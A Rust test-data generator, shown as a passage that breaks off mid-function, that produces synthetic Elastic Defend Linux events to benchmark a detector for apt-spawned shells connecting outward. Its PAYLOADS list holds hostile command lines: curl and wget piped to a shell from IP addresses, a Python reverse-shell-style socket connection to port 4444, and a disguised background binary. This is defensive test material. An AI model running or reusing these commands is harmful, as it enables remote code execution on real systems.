//! A deterministic generator of realistic Elastic Defend Linux traffic, for
//! the benchmarks (`benches/*.rs`) and the allocation test (`tests/alloc.rs`),
//! which include this file with `#[path]`.
//!
//! Events are what Elastic Defend 8.x ships for Linux hosts, 600–1,500 bytes
//! of ECS (`agent`, `data_stream`, `ecs`, `event.*`, `host.*` with `os`,
//! `process.*` with `parent` and sometimes a session leader or a hash,
//! `user`, `destination` / `source`, `network`, `file`, `message`), one
//! object per line; a quarter of them without their descriptive fields
//! (`ecs`, `data_stream`, `message`, `event.kind` …), as a shipper's
//! field-dropping processors leave them.
//!
//! The mix (per 1,000 events, see [`Generator::next_event`]):
//!
//! | per mille | what |
//! |---|---|
//! | 300 | process `exec` of ordinary programs (shells from sshd, cron jobs with `sh -c`, systemd units, tools) |
//! | 150 | process `end` |
//! |  40 | process `fork` |
//! | 200 | file events (creation, modification, deletion, rename) |
//! |  90 | network `connection_attempted` (30 % to public addresses: these match the rule's second stage) |
//! |  60 | network `connection_accepted` |
//! | 100 | network `disconnect_received` |
//! |  50 | apt at work: `apt`/`apt-get update` runs (85 %), their `http` method connecting to public mirrors (15 %, second-stage matches) |
//! |   5 | benign APT hooks: `sh -c` by `apt` (a first-stage match) whose children stay local or are `apt-listbugs` |
//! |   2 | **planted sequences**: `sh -c` by `apt`, then its child connects to a public address within 5 s (an alert each) |
//! |   3 | **near misses**: the same with one thing wrong (parent `apt-get`, `APT`, `-ce`, 5.2–9 s later, private address, other host, `0.0.0.0`, connection accepted) |
//!
//! Everything but the planted sequences and near misses (and the events they
//! schedule) is background: about 99 % (measured and printed by the
//! benchmarks, with the share of records that match a stage: about 0.9 % the
//! first, 3.7 % the second).
//!
//! Time: every host emits about 10 events/s, so a fleet of `hosts` hosts emits
//! `10 × hosts` events/s of event time; timestamps carry 7 fractional digits
//! as Defend's do. Events of a sequence are scheduled and come out in time
//! order among the rest.
//!
//! Layouts: nested JSON by default, dotted keys (`"process.parent.name"`) with
//! [`Spec::dotted`], and Fluent Bit MessagePack chunks (v2 records
//! `[[EventTime, {}], {body}]`) with [`to_msgpack_chunks`].

#![allow(dead_code)]

use serde_json::{json, Map, Value};
use std::collections::BinaryHeap;
use std::ops::Range;

/// xorshift64*: small, fast, deterministic.
#[derive(Debug, Clone)]
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Rng {
        // splitmix64 of the seed, never 0
        let mut z = seed.wrapping_add(0x9E37_79B9_7F4A_7C15);
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        Rng((z ^ (z >> 31)) | 1)
    }
    pub fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }
    /// Uniform in `0..n` (n > 0).
    pub fn below(&mut self, n: u64) -> u64 {
        ((self.next() >> 32) * n) >> 32
    }
    pub fn range(&mut self, lo: u64, hi: u64) -> u64 {
        lo + self.below(hi - lo + 1)
    }
    /// True with probability `per_mille` / 1000.
    pub fn chance(&mut self, per_mille: u64) -> bool {
        self.below(1000) < per_mille
    }
    pub fn pick<'a, T>(&mut self, v: &'a [T]) -> &'a T {
        &v[self.below(v.len() as u64) as usize]
    }
}

/// What to generate.
#[derive(Debug, Clone)]
pub struct Spec {
    pub events: usize,
    pub hosts: usize,
    pub seed: u64,
    /// Dotted keys (`"process.parent.name": "apt"`) instead of nested objects.
    pub dotted: bool,
}

impl Spec {
    pub fn new(events: usize, hosts: usize) -> Spec {
        Spec { events, hosts, seed: 0x00A7_7E7C_0DE5_2026, dotted: false }
    }
}

/// What kind of event, for the mix counts.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Kind {
    Exec,
    End,
    Fork,
    File,
    NetAttempt,
    NetAccept,
    NetDisconnect,
    AptActivity,
    BenignHook,
    HookChild,
    PlantedShell,
    PlantedConnection,
    NearMissShell,
    NearMissConnection,
}

impl Kind {
    pub fn is_background(self) -> bool {
        !matches!(self, Kind::PlantedShell | Kind::PlantedConnection | Kind::NearMissShell | Kind::NearMissConnection)
    }
}

/// Counts of a generated corpus.
#[derive(Debug, Clone, Default)]
pub struct Mix {
    pub events: u64,
    pub background: u64,
    /// Planted sequences: the alerts a correct detector raises.
    pub planted: u64,
    pub near_misses: u64,
    pub benign_hooks: u64,
    /// Background connection attempts to public addresses (second-stage matches).
    pub public_attempts: u64,
    pub bytes: u64,
    pub min_len: usize,
    pub max_len: usize,
}

impl Mix {
    fn add(&mut self, kind: Kind, len: usize, public: bool) {
        self.events += 1;
        self.background += kind.is_background() as u64;
        self.planted += (kind == Kind::PlantedShell) as u64;
        self.near_misses += (kind == Kind::NearMissShell) as u64;
        self.benign_hooks += (kind == Kind::BenignHook) as u64;
        self.public_attempts += (kind == Kind::NetAttempt && public) as u64;
        self.bytes += len as u64;
        self.min_len = if self.events == 1 { len } else { self.min_len.min(len) };
        self.max_len = self.max_len.max(len);
    }

    pub fn summary(&self) -> String {
        format!(
            "{} events, {:.1} MB, {}–{} bytes (mean {:.0}); background {:.2} %; {} planted sequences, {} near misses, {} benign apt hooks, {} background connections to public addresses ({:.2} %)",
            self.events,
            self.bytes as f64 / 1e6,
            self.min_len,
            self.max_len,
            self.bytes as f64 / self.events.max(1) as f64,
            100.0 * self.background as f64 / self.events.max(1) as f64,
            self.planted,
            self.near_misses,
            self.benign_hooks,
            self.public_attempts,
            100.0 * self.public_attempts as f64 / self.events.max(1) as f64,
        )
    }
}

/// A generated corpus: NDJSON bytes (every record ends with `\n`) and each
/// record's range (without its newline).
pub struct Corpus {
    pub data: Vec<u8>,
    pub records: Vec<Range<usize>>,
    pub mix: Mix,
}

impl Corpus {
    pub fn generate(spec: &Spec) -> Corpus {
        let mut g = Generator::new(spec);
        let mut data = Vec::with_capacity(spec.events * 1100);
        let mut records = Vec::with_capacity(spec.events);
        while let Some(()) = g.write_next(&mut data, &mut records) {}
        Corpus { data, records, mix: g.mix }
    }

    pub fn lines(&self) -> impl Iterator<Item = &[u8]> + '_ {
        self.records.iter().map(move |r| &self.data[r.clone()])
    }

    pub fn len(&self) -> usize {
        self.records.len()
    }
}

struct Host {
    name: String,
    id: String,
    agent: String,
    ip: String,
    mac: String,
    os: &'static OsInfo,
}

struct OsInfo {
    family: &'static str,
    name: &'static str,
    version: &'static str,
    full: &'static str,
    kernel: &'static str,
    platform: &'static str,
    variant: &'static str,
}

static OSES: &[OsInfo] = &[
    OsInfo {
        family: "debian",
        name: "Debian GNU/Linux",
        version: "12",
        full: "Debian GNU/Linux 12 (bookworm)",
        kernel: "6.1.0-18-amd64",
        platform: "debian",
        variant: "Debian",
    },
    OsInfo {
        family: "debian",
        name: "Ubuntu",
        version: "22.04.4 LTS (Jammy Jellyfish)",
        full: "Ubuntu 22.04.4",
        kernel: "5.15.0-101-generic",
        platform: "ubuntu",
        variant: "Ubuntu",
    },
    OsInfo {
        family: "rhel",
        name: "Red Hat Enterprise Linux",
        version: "9.3 (Plow)",
        full: "Red Hat Enterprise Linux 9.3",
        kernel: "5.14.0-362.18.1.el9_3.x86_64",
        platform: "rhel",
        variant: "RHEL",
    },
];

/// An ordinary program: executable, typical arguments, typical parent.
struct Program {
    exe: &'static str,
    args: &'static [&'static str],
    parent: &'static str,
    user: &'static str,
}

static PROGRAMS: &[Program] = &[
    Program { exe: "/usr/bin/ls", args: &["-la", "/var/log"], parent: "/usr/bin/bash", user: "admin" },
    Program { exe: "/usr/bin/cat", args: &["/proc/meminfo"], parent: "/usr/bin/bash", user: "admin" },
    Program { exe: "/usr/bin/grep", args: &["-r", "ERROR", "/var/log/app"], parent: "/usr/bin/bash", user: "admin" },
    Program { exe: "/usr/bin/systemctl", args: &["status", "nginx.service"], parent: "/usr/bin/bash", user: "root" },
    Program { exe: "/usr/bin/journalctl", args: &["-u", "sshd", "--since", "-1h"], parent: "/usr/bin/bash", user: "root" },
    Program { exe: "/usr/bin/python3", args: &["/opt/app/worker.py", "--queue", "default"], parent: "/usr/lib/systemd/systemd", user: "app" },
    Program { exe: "/usr/bin/sh", args: &["-c", "run-parts --report /etc/cron.hourly"], parent: "/usr/sbin/cron", user: "root" },
    Program { exe: "/usr/bin/bash", args: &["-c", "/usr/local/bin/backup.sh >/dev/null 2>&1"], parent: "/usr/sbin/cron", user: "root" },
    Program { exe: "/usr/bin/bash", args: &[], parent: "/usr/sbin/sshd", user: "admin" },
    Program { exe: "/usr/bin/sudo", args: &["systemctl", "restart", "app.service"], parent: "/usr/bin/bash", user: "admin" },
    Program { exe: "/usr/bin/ps", args: &["aux"], parent: "/usr/bin/bash", user: "admin" },
    Program { exe: "/usr/bin/find", args: &["/tmp", "-mtime", "+7", "-delete"], parent: "/usr/bin/sh", user: "root" },
    Program { exe: "/usr/bin/tar", args: &["czf", "/backup/etc.tgz", "/etc"], parent: "/usr/bin/bash", user: "root" },
    Program { exe: "/usr/bin/gzip", args: &["-9", "/var/log/syslog.1"], parent: "/usr/sbin/logrotate", user: "root" },
    Program { exe: "/usr/bin/curl", args: &["-fsS", "http://127.0.0.1:8080/healthz"], parent: "/usr/bin/sh", user: "app" },
    Program { exe: "/usr/bin/git", args: &["fetch", "--prune", "origin"], parent: "/usr/bin/bash", user: "deploy" },
    Program { exe: "/usr/bin/node", args: &["/srv/api/server.js"], parent: "/usr/lib/systemd/systemd", user: "app" },
    Program { exe: "/usr/bin/containerd-shim-runc-v2", args: &["-namespace", "moby", "-id", "3f2a9c", "-address", "/run/containerd/containerd.sock"], parent: "/usr/bin/containerd", user: "root" },
    Program { exe: "/usr/sbin/runc", args: &["--root", "/var/run/docker/runtime-runc/moby", "--log-format", "json", "start"], parent: "/usr/bin/containerd-shim-runc-v2", user: "root" },
    Program { exe: "/usr/bin/dpkg", args: &["--status-fd", "23", "--configure", "--pending"], parent: "/usr/bin/apt-get", user: "root" },
    Program { exe: "/usr/bin/awk", args: &["{print $1}", "/etc/passwd"], parent: "/usr/bin/bash", user: "admin" },
    Program { exe: "/usr/bin/sed", args: &["-i", "s/^#PermitRootLogin/PermitRootLogin/", "/etc/ssh/sshd_config"], parent: "/usr/bin/bash", user: "root" },
];

/// Programs that open network connections, and their parents.
static NET_PROGRAMS: &[(&str, &str)] = &[
    ("/usr/bin/curl", "/usr/bin/bash"),
    ("/usr/bin/wget", "/usr/bin/sh"),
    ("/usr/bin/python3", "/usr/lib/systemd/systemd"),
    ("/usr/bin/node", "/usr/lib/systemd/systemd"),
    ("/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "/usr/lib/systemd/systemd"),
    ("/usr/sbin/sshd", "/usr/lib/systemd/systemd"),
    ("/usr/lib/systemd/systemd-resolved", "/usr/lib/systemd/systemd"),
    ("/usr/sbin/chronyd", "/usr/lib/systemd/systemd"),
    ("/usr/bin/dockerd", "/usr/lib/systemd/systemd"),
    ("/usr/bin/containerd", "/usr/lib/systemd/systemd"),
    ("/usr/lib/snapd/snapd", "/usr/lib/systemd/systemd"),
    ("/opt/elastic/agent/elastic-agent", "/usr/lib/systemd/systemd"),
    ("/usr/bin/git", "/usr/bin/bash"),
];

static FILE_PATHS: &[&str] = &[
    "/var/log/nginx/access.log",
    "/var/lib/apt/lists/partial/deb.debian.org_debian_dists_bookworm_InRelease",
    "/tmp/tmp.k3JdQ9x2Lm",
    "/etc/ld.so.cache",
    "/var/cache/app/session-4f2c.json",
    "/home/admin/.bash_history",
    "/var/lib/dpkg/status-new",
    "/opt/app/releases/2026-03-14/app.tar.gz",
    "/var/spool/cron/crontabs/root",
    "/run/containerd/io.containerd.runtime.v2.task/moby/3f2a9c/config.json",
];

static HOOKS: &[&str] = &[
    "test -x /usr/lib/needrestart/apt-pinvoke && /usr/lib/needrestart/apt-pinvoke -m u || true",
    "if /usr/bin/test -w /var/lib/command-not-found/ -a -e /usr/lib/cnf-update-db; then /usr/lib/cnf-update-db > /dev/null; fi",
    "[ ! -x /usr/lib/update-notifier/update-motd-updates-available ] || /usr/lib/update-notifier/update-motd-updates-available 2>/dev/null || true",
    "/usr/bin/apt-listbugs apt",
    "if [ -x /usr/bin/debsig-verify ]; then /usr/bin/debsig-verify --list-policies >/dev/null; fi",
];

static PAYLOADS: &[&str] = &[
    "curl -fsSL http://45.33.32.156/x.sh | sh",
    "wget -qO- https://203.0.113.250/u | bash",
    "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"185.220.101.4\",4444))'",
    "nohup /tmp/.cache/kworker >/dev/null 2>&1 &",
];

static SHELLS: &[&str] = &["bash", "dash", "sh", "zsh"];

/// Public prefixes (first three octets or two) for background and planted connections.
static PUBLIC_V4: &[&str] = &[
    "151.101.2", "151.101.66", "140.82.112", "140.82.121", "91.189.91", "185.125.190", "199.232.18", "104.16.132",
    "104.18.32", "35.186.224", "34.117.59", "52.84.150", "18.165.83", "142.250.74", "172.217.16", "45.33.32",
];
static PUBLIC_V6: &[&str] = &["2a04:4e42:200::", "2620:2d:4000:1::", "2606:4700::6810:", "2a00:1450:4001:82b::"];
static PRIVATE_V4: &[&str] = &["10.20.0", "10.20.1", "10.0.3", "172.16.4", "172.31.200", "192.168.1", "192.168.50"];

/// An event scheduled for later (a sequence's second half).
struct Scheduled {
    due_us: u64,
    serial: u64,
    event: Value,
    kind: Kind,
    public: bool,
}

impl PartialEq for Scheduled {
    fn eq(&self, o: &Self) -> bool {
        (self.due_us, self.serial) == (o.due_us, o.serial)
    }
}
impl Eq for Scheduled {}
impl PartialOrd for Scheduled {
    fn partial_cmp(&self, o: &Self) -> Option<std::cmp::Ordering> {
        Some(self.cmp(o))
    }
}
impl Ord for Scheduled {
    // earliest first in a max-heap
    fn cmp(&self, o: &Self) -> std::cmp::Ordering {
        (o.due_us, o.serial).cmp(&(self.due_us, self.serial))
    }
}

/// The event stream.
pub struct Generator {
    r: Rng,
    hosts: Vec<Host>,
    spec: Spec,
    /// Event time, µs since the Unix epoch.
    now_us: u64,
    mean_step_us: u64,
    seq: u64,
    serial: u64,
    emitted: usize,
    queue: BinaryHeap<Scheduled>,
    pub mix: Mix,
}

const START_US: u64 = 1_773_480_600_000_000; // 2026-03-14T09:30:00Z

impl Generator {
    pub fn new(spec: &Spec) -> Generator {
        let mut r = Rng::new(spec.seed);
        let hosts = (0..spec.hosts.max(1))
            .map(|i| {
                let os = &OSES[r.below(OSES.len() as u64) as usize];
                let prefix = ["web", "db", "app", "ci", "k8s-node", "cache", "batch"][(i * 7 + 3) % 7];
                Host {
                    name: format!("{prefix}-{i:05}"),
                    id: hex(&mut r, 32),
                    agent: uuid(&mut r),
                    ip: format!("10.{}.{}.{}", 20 + i / 65536 % 200, i / 256 % 256, i % 256),
                    mac: (0..6).map(|_| format!("{:02x}", r.below(256))).collect::<Vec<_>>().join("-"),
                    os,
                }
            })
            .collect();
        // 10 events/s per host
        let mean_step_us = (100_000 / spec.hosts.max(1) as u64).max(1);
        Generator {
            r,
            hosts,
            spec: spec.clone(),
            now_us: START_US,
            mean_step_us,
            seq: 1_000_000,
            serial: 0,
            emitted: 0,
            queue: BinaryHeap::new(),
            mix: Mix::default(),
        }
    }

    /// Append the next record (and its newline) to `data`; `None` when the
    /// spec's count is reached.
    pub fn write_next(&mut self, data: &mut Vec<u8>, records: &mut Vec<Range<usize>>) -> Option<()> {
        let (event, kind, public) = self.next_event()?;
        let start = data.len();
        if self.spec.dotted {
            let mut flat = Map::new();
            flatten("", event, &mut flat);
            serde_json::to_writer(&mut *data, &Value::Object(flat)).unwrap();
        } else {
            serde_json::to_writer(&mut *data, &event).unwrap();
        }
        let end = data.len();
        data.push(b'\n');
        records.push(start..end);
        self.mix.add(kind, end - start, public);
        Some(())
    }

    /// Stop starting new events: only those already scheduled (the ends of
    /// sequences begun) are still to come.
    pub fn finish(&mut self) {
        self.spec.events = self.emitted + self.queue.len();
    }

    /// The next event in time order, or `None` when done.
    pub fn next_event(&mut self) -> Option<(Value, Kind, bool)> {
        if self.emitted >= self.spec.events {
            return None;
        }
        self.emitted += 1;
        let left = self.spec.events - self.emitted + 1;
        let due = self.queue.peek().map(|s| s.due_us <= self.now_us).unwrap_or(false);
        if due || (!self.queue.is_empty() && left <= self.queue.len()) {
            let s = self.queue.pop().unwrap();
            self.now_us = self.now_us.max(s.due_us);
            let mut event = s.event;
            self.stamp(&mut event);
            return Some((event, s.kind, s.public));
        }
        self.now_us += self.r.below(2 * self.mean_step_us + 1);
        // Start sequences only while there is room left for their ends.
        let roll = self.r.below(1000);
        let roll = if left <= self.queue.len() + 4 && roll >= 990 { 0 } else { roll };
        let (mut event, kind, public) = match roll {
            0..=299 => (self.exec(), Kind::Exec, false),
            300..=449 => (self.end(), Kind::End, false),
            450..=489 => (self.fork(), Kind::Fork, false),
            490..=689 => (self.file(), Kind::File, false),
            690..=779 => {
                let (e, public) = self.attempt();
                (e, Kind::NetAttempt, public)
            }
            780..=839 => (self.accept(), Kind::NetAccept, false),
            840..=939 => (self.disconnect(), Kind::NetDisconnect, false),
            940..=989 => (self.apt_activity(), Kind::AptActivity, false),
            990..=994 => (self.benign_hook(), Kind::BenignHook, false),
            995..=996 => (self.planted(), Kind::PlantedShell, false),
            _ => (self.near_miss(), Kind::NearMissShell, false),
        };
        self.stamp(&mut event);
        Some((event, kind, public))
    }

    fn schedule(&mut self, delay_us: u64, event: Value, kind: Kind, public: bool) {
        self.serial += 1;
        self.queue.push(Scheduled { due_us: self.now_us + delay_us, serial: self.serial, event, kind, public });
    }

    /// Set the event's time fields to now; a quarter of the events lose
    /// their descriptive fields, as a shipper's field-dropping processors do.
    fn stamp(&mut self, e: &mut Value) {
        let ts = timestamp(self.now_us);
        self.seq += 1;
        e["@timestamp"] = json!(ts);
        e["event"]["created"] = json!(ts);
        e["event"]["sequence"] = json!(self.seq);
        e["event"]["id"] = json!(format!("Nx{}", hex(&mut self.r, 14)));
        // Within 1,500 bytes: drop optional process details of long ones.
        for k in ["hash", "session_leader", "working_directory", "args_count"] {
            if serde_json::to_vec(e).map_or(0, |v| v.len()) <= 1500 {
                break;
            }
            e["process"].as_object_mut().map(|p| p.shift_remove(k));
        }
        if self.r.chance(250) {
            let m = e.as_object_mut().unwrap();
            for k in ["ecs", "message", "data_stream"] {
                m.shift_remove(k);
            }
            m["agent"].as_object_mut().unwrap().shift_remove("version");
            let ev = m["event"].as_object_mut().unwrap();
            for k in ["agent_id_status", "created", "kind", "module", "dataset"] {
                ev.shift_remove(k);
            }
            let host = m["host"].as_object_mut().unwrap();
            for k in ["hostname", "architecture", "ip"] {
                host.shift_remove(k);
            }
            let os = host["os"].as_object_mut().unwrap();
            for k in ["kernel", "version", "platform", "family"] {
                os.shift_remove(k);
            }
        }
    }

    fn host(&mut self) -> usize {
        self.r.below(self.hosts.len() as u64) as usize
    }

    fn entity(&mut self, h: usize, pid: u64) -> String {
        // Defend's entity ids are base64 of agent id, pid and start time;
        // shortened here to keep events within 600–1,500 bytes.
        let raw = format!("{}-{}-{}", &self.hosts[h].agent[..8], pid, self.now_us / 1000 + self.r.below(1_000_000));
        base64(raw.as_bytes())
    }

    fn pid(&mut self) -> u64 {
        self.r.range(300, 4_194_000)
    }

    /// The fields every event has.
    fn base(&mut self, h: usize, dataset: &str, category: &str, types: &[&str], action: &str) -> Value {
        let host = &self.hosts[h];
        let os = host.os;
        json!({
            "agent": {"id": host.agent, "type": "endpoint", "version": "8.15.0"},
            "@timestamp": "",
            "data_stream": {"dataset": dataset, "namespace": "default", "type": "logs"},
            "ecs": {"version": "8.11.0"},
            "event": {
                "agent_id_status": "verified",
                "sequence": 0,
                "created": "",
                "kind": "event",
                "module": "endpoint",
                "action": action,
                "id": "",
                "category": [category],
                "type": types,
                "dataset": dataset,
            },
            "host": {
                "hostname": host.name,
                "os": {
                    "kernel": os.kernel,
                    "name": os.name,
                    "family": os.family,
                    "type": "linux",
                    "version": os.version,
                    "platform": os.platform,
                },
                "ip": [host.ip],
                "name": host.name,
                "id": host.id,
                "architecture": "x86_64",
            },
        })
    }

    fn user(&mut self, name: &str) -> Value {
        let id = if name == "root" { "0".to_string() } else { (1000 + self.r.below(50)).to_string() };
        json!({"name": name, "id": id})
    }

    /// A full `process` object (exec events).
    fn process(&mut self, h: usize, exe: &str, args: &[&str], parent_exe: &str, parent_args: &[&str]) -> (Value, String) {
        let pid = self.pid();
        let ppid = self.pid();
        let entity = self.entity(h, pid);
        let parent_entity = self.entity(h, ppid);
        let name = basename(exe);
        let mut argv = vec![exe.to_string()];
        argv.extend(args.iter().map(|s| s.to_string()));
        let mut pargv = vec![parent_exe.to_string()];
        pargv.extend(parent_args.iter().map(|s| s.to_string()));
        let mut p = json!({
            "parent": {
                "name": basename(parent_exe),
                "pid": ppid,
                "entity_id": parent_entity,
                "command_line": pargv.join(" "),
                "executable": parent_exe,
            },
            "pid": pid,
            "entity_id": entity,
            "executable": exe,
            "args": argv,
            "name": name,
            "args_count": argv.len(),
            "command_line": argv.join(" "),
            "working_directory": "/",
        });
        match self.r.below(10) {
            0..=2 => {
                let sid = self.pid();
                p.as_object_mut().unwrap().shift_remove("working_directory");
                p["session_leader"] = json!({"pid": sid, "entity_id": self.entity(h, sid)});
            }
            3..=4 => p["hash"] = json!({"sha256": hex(&mut self.r, 64)}),
            _ => {}
        }
        (p, entity)
    }

    /// A short `process` object (network, file and end events).
    fn short_process(&mut self, h: usize, exe: &str, parent_exe: &str) -> (Value, String) {
        let pid = self.pid();
        let ppid = self.pid();
        let entity = self.entity(h, pid);
        let parent_entity = self.entity(h, ppid);
        (
            json!({
                "name": basename(exe),
                "pid": pid,
                "entity_id": entity,
                "executable": exe,
                "parent": {"pid": ppid, "entity_id": parent_entity, "name": basename(parent_exe), "executable": parent_exe},
            }),
            entity,
        )
    }

    fn exec(&mut self) -> Value {
        let h = self.host();
        let p = self.r.pick(PROGRAMS);
        let mut e = self.base(h, "endpoint.events.process", "process", &["start"], "exec");
        let (proc_, _) = self.process(h, p.exe, p.args, p.parent, &[]);
        e["process"] = proc_;
        e["user"] = self.user(p.user);
        e["message"] = json!("Endpoint process event");
        e
    }

    fn end(&mut self) -> Value {
        let h = self.host();
        let p = self.r.pick(PROGRAMS);
        let mut e = self.base(h, "endpoint.events.process", "process", &["end"], "end");
        let (mut proc_, _) = self.short_process(h, p.exe, p.parent);
        proc_["exit_code"] = json!(if self.r.chance(900) { 0 } else { 1 });
        e["process"] = proc_;
        e["user"] = self.user(p.user);
        e["message"] = json!("Endpoint process event");
        e
    }

    fn fork(&mut self) -> Value {
        let h = self.host();
        let (exe, parent) = *self.r.pick(NET_PROGRAMS);
        let mut e = self.base(h, "endpoint.events.process", "process", &["start"], "fork");
        let (proc_, _) = self.process(h, exe, &[], parent, &[]);
        e["process"] = proc_;
        e["user"] = self.user("root");
        e["message"] = json!("Endpoint process event");
        e
    }

    fn file(&mut self) -> Value {
        let h = self.host();
        let (action, ty) = *self.r.pick(&[
            ("creation", "creation"),
            ("modification", "change"),
            ("modification", "change"),
            ("deletion", "deletion"),
            ("rename", "change"),
        ]);
        let path = *self.r.pick(FILE_PATHS);
        let p = self.r.pick(PROGRAMS);
        let mut e = self.base(h, "endpoint.events.file", "file", &[ty], action);
        let name = basename(path);
        let mut file = json!({"path": path, "name": name, "size": self.r.range(100_000, 999_999), "Ext": {"header_bytes": hex(&mut self.r, 16)}});
        if let Some((_, ext)) = name.rsplit_once('.') {
            file["extension"] = json!(ext);
        }
        let mut proc_ = self.short_process(h, p.exe, p.parent).0;
        proc_.as_object_mut().unwrap().shift_remove("parent");
        e["file"] = file;
        e["process"] = proc_;
        e["user"] = self.user(p.user);
        e["message"] = json!("Endpoint file event");
        e
    }

    fn addresses(&mut self, h: usize, public: bool) -> (String, String, &'static str) {
        let src = self.hosts[h].ip.clone();
        if public {
            if self.r.chance(150) {
                let p = *self.r.pick(PUBLIC_V6);
                return (format!("{p}{:x}", self.r.range(1, 0xfffe)), "2a01:4f8:c17:b8f::2".into(), "ipv6");
            }
            let p = *self.r.pick(PUBLIC_V4);
            let dst = if p.matches('.').count() == 2 {
                format!("{p}.{}", self.r.range(1, 254))
            } else {
                format!("{p}.{}.{}", self.r.below(256), self.r.range(1, 254))
            };
            return (dst, src, "ipv4");
        }
        if self.r.chance(250) {
            return ("127.0.0.1".into(), "127.0.0.1".into(), "ipv4");
        }
        let p = *self.r.pick(PRIVATE_V4);
        (format!("{p}.{}", self.r.range(1, 254)), src, "ipv4")
    }

    fn network(&mut self, h: usize, action: &str, types: &[&str], exe: &str, parent: &str, public: bool) -> (Value, String) {
        let mut e = self.base(h, "endpoint.events.network", "network", types, action);
        let (dst, src, ty) = self.addresses(h, public);
        let (dport, sport) = if action == "connection_accepted" {
            (*self.r.pick(&[22u64, 443, 8080, 5432]), self.r.range(32768, 60999))
        } else {
            (*self.r.pick(&[443u64, 443, 80, 53, 5432, 6379, 9200]), self.r.range(32768, 60999))
        };
        e["destination"] = json!({"address": dst, "ip": dst, "port": dport});
        e["source"] = json!({"address": src, "ip": src, "port": sport});
        e["network"] = json!({"direction": if action == "connection_accepted" { "ingress" } else { "egress" }, "transport": "tcp", "type": ty});
        let (p, ent) = self.short_process(h, exe, parent);
        e["process"] = p;
        e["user"] = self.user(if exe.contains("python") || exe.contains("node") { "app" } else { "root" });
        e["message"] = json!("Endpoint network event");
        (e, ent)
    }

    fn attempt(&mut self) -> (Value, bool) {
        let h = self.host();
        let (exe, parent) = *self.r.pick(NET_PROGRAMS);
        let public = self.r.chance(300);
        (self.network(h, "connection_attempted", &["start"], exe, parent, public).0, public)
    }

    fn accept(&mut self) -> Value {
        let h = self.host();
        let (exe, parent) = *self.r.pick(NET_PROGRAMS);
        let public = self.r.chance(300);
        self.network(h, "connection_accepted", &["start"], exe, parent, public).0
    }

    fn disconnect(&mut self) -> Value {
        let h = self.host();
        let (exe, parent) = *self.r.pick(NET_PROGRAMS);
        let public = self.r.chance(400);
        self.network(h, "disconnect_received", &["end"], exe, parent, public).0
    }

    /// `apt update` by an admin, or its `http` method fetching from a mirror.
    fn apt_activity(&mut self) -> Value {
        let h = self.host();
        if self.r.chance(850) {
            let mut e = self.base(h, "endpoint.events.process", "process", &["start"], "exec");
            let tool = *self.r.pick(&["/usr/bin/apt", "/usr/bin/apt-get"]);
            e["process"] = self.process(h, tool, &["update"], "/usr/bin/sudo", &["apt", "update"]).0;
            e["user"] = self.user("root");
            e["message"] = json!("Endpoint process event");
            e
        } else {
            let mut e = self.network(h, "connection_attempted", &["start"], "/usr/lib/apt/methods/http", "/usr/bin/apt", true).0;
            e["destination"]["port"] = json!(80);
            e
        }
    }

    /// A shell exec'd by apt with `-c` (a first-stage match) and its pieces.
    fn shell_by_apt(&mut self, h: usize, shell: &str, parent: &str, flag: &str, cmd: &str) -> (Value, String) {
        let mut e = self.base(h, "endpoint.events.process", "process", &["start"], "exec");
        let exe = format!("/usr/bin/{shell}");
        let parent_exe = format!("/usr/bin/{}", parent.to_lowercase());
        let (mut p, ent) = self.process(h, &exe, &[flag, cmd], &parent_exe, &["update"]);
        p["parent"]["name"] = json!(parent);
        p["args"][0] = json!(shell);
        p["command_line"] = json!(format!("{shell} {flag} {cmd}"));
        e["process"] = p;
        e["user"] = self.user("root");
        e["message"] = json!("Endpoint process event");
        (e, ent)
    }

    fn child_connection(&mut self, h: usize, parent_ent: &str, exe: &str, public: bool, action: &str) -> Value {
        let (mut e, _) = self.network(h, action, &["start"], exe, "/usr/bin/sh", public);
        e["process"]["parent"]["entity_id"] = json!(parent_ent);
        e["process"]["parent"]["name"] = json!("sh");
        e
    }

    fn benign_hook(&mut self) -> Value {
        let h = self.host();
        let cmd = *self.r.pick(HOOKS);
        let (e, ent) = self.shell_by_apt(h, "sh", "apt", "-c", cmd);
        if cmd.contains("apt-listbugs") {
            // apt-listbugs asks bugs.debian.org: excluded by the rule
            let c = self.child_connection(h, &ent, "/usr/bin/apt-listbugs", true, "connection_attempted");
            let d = self.r.range(100_000, 2_000_000);
            self.schedule(d, c, Kind::HookChild, true);
        } else if self.r.chance(500) {
            let c = self.child_connection(h, &ent, "/usr/lib/update-notifier/apt-check", false, "connection_attempted");
            let d = self.r.range(10_000, 900_000);
            self.schedule(d, c, Kind::HookChild, false);
        }
        e
    }

    fn planted(&mut self) -> Value {
        let h = self.host();
        let shell = *self.r.pick(SHELLS);
        let cmd = *self.r.pick(PAYLOADS);
        let (e, ent) = self.shell_by_apt(h, shell, "apt", "-c", cmd);
        let exe = *self.r.pick(&["/usr/bin/curl", "/usr/bin/wget", "/usr/bin/python3", "/tmp/.cache/kworker"]);
        let c = self.child_connection(h, &ent, exe, true, "connection_attempted");
        let d = self.r.range(30_000, 4_800_000);
        self.schedule(d, c, Kind::PlantedConnection, true);
        e
    }

    fn near_miss(&mut self) -> Value {
        let h = self.host();
        let cmd = *self.r.pick(PAYLOADS);
        let variant = self.r.below(8);
        let (parent, flag) = match variant {
            0 => ("apt-get", "-c"),
            1 => ("APT", "-c"),
            2 => ("apt", "-ce"),
            _ => ("apt", "-c"),
        };
        let (e, ent) = self.shell_by_apt(h, "bash", parent, flag, cmd);
        let (delay, public, other_host, action, zero) = match variant {
            3 => (self.r.range(5_200_000, 9_000_000), true, false, "connection_attempted", false),
            4 => (self.r.range(30_000, 3_000_000), false, false, "connection_attempted", false),
            5 => (self.r.range(30_000, 3_000_000), true, true, "connection_attempted", false),
            6 => (self.r.range(30_000, 3_000_000), true, false, "connection_accepted", false),
            7 => (self.r.range(30_000, 3_000_000), true, false, "connection_attempted", true),
